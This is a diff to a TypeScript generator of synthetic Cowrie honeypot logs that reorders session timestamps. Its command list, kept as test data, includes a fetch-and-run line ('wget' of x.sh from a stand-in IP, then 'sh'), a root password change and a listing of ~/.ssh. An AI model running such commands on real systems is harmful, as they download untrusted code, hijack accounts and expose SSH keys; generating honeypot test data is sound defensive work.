@@ -15,7 +15,10 @@ function mulberry32(seed: number): () => number {
 const USERS = ['root', 'admin', 'user', 'test', 'ubuntu', 'oracle', 'pi', 'postgres', 'git', 'ftpuser'];
 const COMMANDS = ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh', 'echo "root:xyz"|chpasswd', 'free -m', 'ls -la ~/.ssh'];
 
-/** Yields `count` Cowrie lines spread over the `hours` before `end`. */
+/**
+ * Yields `count` Cowrie lines over the `hours` before `end`, in time order as Cowrie writes them (sessions
+ * start one after another; a session's lines follow within seconds).
+ */
 export function* cowrieLines(count: number, seed: number, end = Date.now(), hours = 72): Generator<string> {
   const rand = mulberry32(seed);
   const pool = 200_000;
@@ -26,6 +29,9 @@ export function* cowrieLines(count: number, seed: number, end = Date.now(), hour
     ips.push(`${a === 10 || a === 127 ? a + 1 : a}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${1 + Math.floor(rand() * 254)}`);
   }
   const span = hours * 3_600_000;
+  // about 3.5 events a session: spread the session starts evenly over the span
+  const gap = span / (count / 3.5);
+  let start = end - span;
   let produced = 0;
   let session = 0;
   while (produced < count) {
@@ -33,7 +39,8 @@ export function* cowrieLines(count: number, seed: number, end = Date.now(), hour
     const ip = ips[Math.min(pool - 1, Math.floor(pool * rand() ** 4))] as string;
     const sensor = `hp-${Math.floor(rand() * 8)}`;
     const sid = (session++).toString(16).padStart(12, '0');
-    let ts = end - Math.floor(rand() * span);
+    start += Math.floor(rand() * 2 * gap);
+    let ts = Math.min(start, end - 60_000);
     const at = () => new Date((ts += 200 + Math.floor(rand() * 3000))).toISOString().replace('Z', '123Z');
     const port = rand() < 0.8 ? 22 : 23;
     const lines = [`{"eventid":"cowrie.session.connect","timestamp":"${at()}","src_ip":"${ip}","src_port":${1024 + Math.floor(rand() * 60000)},"dst_ip":"10.0.0.5","dst_port":${port},"session":"${sid}","protocol":"${port === 22 ? 'ssh' : 'telnet'}","message":"New connection","sensor":"${sensor}"}`];
